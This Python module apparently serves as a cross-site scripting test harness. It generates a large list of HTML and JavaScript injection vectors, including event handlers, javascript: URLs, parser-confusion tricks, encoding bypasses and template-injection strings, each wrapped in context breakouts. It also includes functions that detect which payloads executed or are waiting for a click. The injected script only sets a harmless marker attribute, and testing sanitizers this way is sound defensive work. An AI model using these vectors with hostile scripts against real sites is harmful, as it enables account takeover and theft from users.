"""Texts that try to become markup: each marks the document that obeys it; what waits for a click is found."""

import re
from html.parser import HTMLParser

MARK = "data-fired-"

VECTORS = (
    "<script>{js}</script>",
    "<ScRiPt >{js}</sCrIpT\t>",
    "<script/x>{js}</script/x>",
    "<svg><script>{js}</script></svg>",
    "<img src=x onerror={js}>",
    "<img/src/onerror={js}>",
    '<IMG SRC=x OnErRoR\n=\n"{js}">',
    "<img src=x\tonerror\t=\t'{js}'//",
    "<svg onload={js}>",
    "<svg/onload={js}>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><set onbegin={js} attributeName=x>",
    "<svg><a xlink:href='javascript:{js}'><text x=9 y=9>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='x'><a/></svg>#x\" onload={js}></svg>",
    "<body onload={js}>",
    "<body onpageshow={js}>",
    "<iframe srcdoc='<script>parent.{js}</script>'></iframe>",
    '<iframe src="javascript:parent.{js}"></iframe>',
    "<iframe onload={js}></iframe>",
    "<object data=x onerror={js}></object>",
    '<object data="javascript:{js}"></object>',
    '<embed src="javascript:{js}">',
    "<video><source onerror={js}></video>",
    "<video src=x onerror={js}></video>",
    "<audio src=x onerror={js}></audio>",
    "<details open ontoggle={js}>x</details>",
    "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}></select>",
    "<textarea autofocus onfocus={js}></textarea>",
    "<div contenteditable autofocus onfocus={js}>x</div>",
    "<style>@keyframes f{{}}</style><b style='animation:f 1s' onanimationstart={js}>x</b>",
    "<link rel=stylesheet href=x onerror={js}>",
    "<script src=x onerror={js}></script>",
    '<meta http-equiv=refresh content="0;url=javascript:{js}">',
    '<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={js}&gt;">',
    '<noscript><p title="</noscript><img src=x onerror={js}>">',
    '<a href="javascript:{js}">x</a>',
    '<a href="java&#10;script:{js}">x</a>',
    "<a href=' &#1; javascript:{js}'>x</a>",
    '<form action="javascript:{js}"><button>x</button></form>',
    '<button formaction="javascript:{js}" form=f>x</button><form id=f></form>',
    "<b onmouseover={js} style='position:fixed;inset:0'>x</b>",
    '<base href="javascript:{js}//">',
    "<marquee onstart={js}>x</marquee>",
)
"""Markup that runs a script when it is parsed, loaded, focused or clicked."""

BREAKOUTS = ("{}", '">{}', "</script></style></title></textarea></noscript></template>-->{}")
"""Ways out of the places where a page puts a text: text, an attribute, a script or another element of raw text."""

OTHERS = (
    '"onmouseover={js} autofocus onfocus={js} x="',
    "'onerror='{js}' src='x",
    '";{js};"',
    "';{js};'",
    "`;{js};`",
    "${{{js}}}",
    "{{{{{js}}}}}",
    "{{{{constructor.constructor('{js}')()}}}}",
    "\\u003cimg src=x onerror={js}\\u003e",
    "\\x3cimg src=x onerror={js}\\x3e",
    "&lt;img src=x onerror={js}&gt;",
    "&amp;lt;img src=x onerror={js}&amp;gt;",
    "%3Cimg src=x onerror={js}%3E",
    "+ADw-script+AD4-{js}+ADw-/script+AD4-",
    "＜script＞{js}＜/script＞",
    "<\u200bscript>{js}</script>",
    "[x](javascript:{js})",
    '![x](x"onerror="{js})',
    "<javascript:{js}>",
    "<![CDATA[<img src=x onerror={js}>]]>",
    "<!--><img src=x onerror={js}>-->",
    "<a href='x' target='_blank' onclick='{js}'>x</a>",
    "</b><sup><img src=x onerror={js}></sup><b>",
    "javascript:{js}",
)
"""Quotes, template braces, escapes that are undone once too often, and languages of marks that become HTML."""


def _script(number: int) -> str:
    return f"document.documentElement.setAttribute(`{MARK}{number}`,1)"


def payloads() -> list[str]:
    """Every payload; the one at place N marks the document with its number N."""
    shapes = [way.replace("{}", vector) for way in BREAKOUTS for vector in VECTORS] + list(OTHERS)
    return [shape.format(js=_script(number)) for number, shape in enumerate(shapes)]


def fired(document: str) -> set[int]:
    """The numbers of the payloads that marked a document."""
    tag = re.search(r"<html[^>]*>", document)
    return {int(number) for number in re.findall(rf"{MARK}(\d+)=", tag[0])} if tag else set()


class Waiting(HTMLParser):
    """Collects what would run a script once somebody clicks, points or focuses."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            said = re.sub(r"[\x00-\x20]", "", value or "").lower()
            if MARK in said and (name.startswith("on") or said.startswith(("javascript:", "data:"))):
                self.found.append(f"<{tag} {name}={value}>")


def waiting(document: str) -> list[str]:
    """Attributes of a document that hold a payload and that a click, a pointer or the focus would run."""
    parser = Waiting()
    parser.feed(document)
    return parser.found
